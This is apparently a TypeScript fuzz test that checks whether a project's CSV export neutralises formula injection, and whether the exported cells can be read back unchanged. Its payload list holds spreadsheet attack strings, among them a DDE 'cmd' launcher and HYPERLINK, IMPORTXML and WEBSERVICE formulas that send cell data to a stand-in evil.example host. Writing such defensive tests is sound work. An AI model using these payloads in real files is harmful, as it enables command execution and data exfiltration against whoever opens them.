/** Texts that a spreadsheet would run: written by our exports, none begins like a formula, and all can be read again. */
import { csv } from '../../../shared/csv.ts';
import { type Dice, diceFrom, rngFrom } from '../../../shared/rng.ts';
import { upTo } from '../lib/numbers.ts';
import type { Report, Scenario, Size } from '../lib/scenario.ts';
import { oneOf } from '../lib/traffic.ts';

const sizes: { readonly [size in Size]: number } = { quick: 10_000, ci: 10_000, nightly: 1_000_000 };

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  '|',
  '%',
  '"',
  "'",
  ';',
  ',',
  '\u00A0=',
  '\u200B@',
  ' =',
  '\uFEFF+',
  '\0-',
];
const bodies = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"click")',
  'SUM(1,1)*cmd|x',
  'IMPORTXML(CONCAT("http://e",A1),"//a")',
  '2+5+cmd',
  'WEBSERVICE("http://e")',
  '","=1+1',
  '"\r\n=1+1',
  ';=1+1',
  '\t=1',
];

const text = (dice: Dice): string =>
  upTo(1 + dice.below(3))
    .map(() => oneOf(dice, starts))
    .join('') + oneOf(dice, bodies);

/** A reader of RFC 4180, with nothing of ours. */
function* cells(all: string): Generator<string> {
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  cell.lastIndex = 1;
  while (cell.lastIndex < all.length) {
    const found = cell.exec(all);
    if (found === null) throw new Error('no CSV');
    yield found[1]?.replaceAll('""', '"') ?? found[2] ?? '';
  }
}

async function run(size: Size, report: Report): Promise<void> {
  let armed = 0;
  let changed = 0;
  for (const n of upTo(sizes[size])) {
    const dice = diceFrom(rngFrom(n));
    const row = upTo(3).map(() => text(dice));
    const back = [...cells(csv([row]))];
    if (back.some((one) => /^[\s\p{C}\p{Z}]*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(one))) armed += 1;
    if (back.length !== 3 || back.some((one, at) => one !== row[at] && one !== `'${row[at]}`)) changed += 1;
  }
  report.check('no cell is a formula', armed === 0, `${armed} of ${sizes[size]} rows`);
  report.check('every cell can be read again', changed === 0, `${changed} of ${sizes[size]} rows`);
}

export const scenario: Scenario = { title: 'CSV injection', missing: null, run };
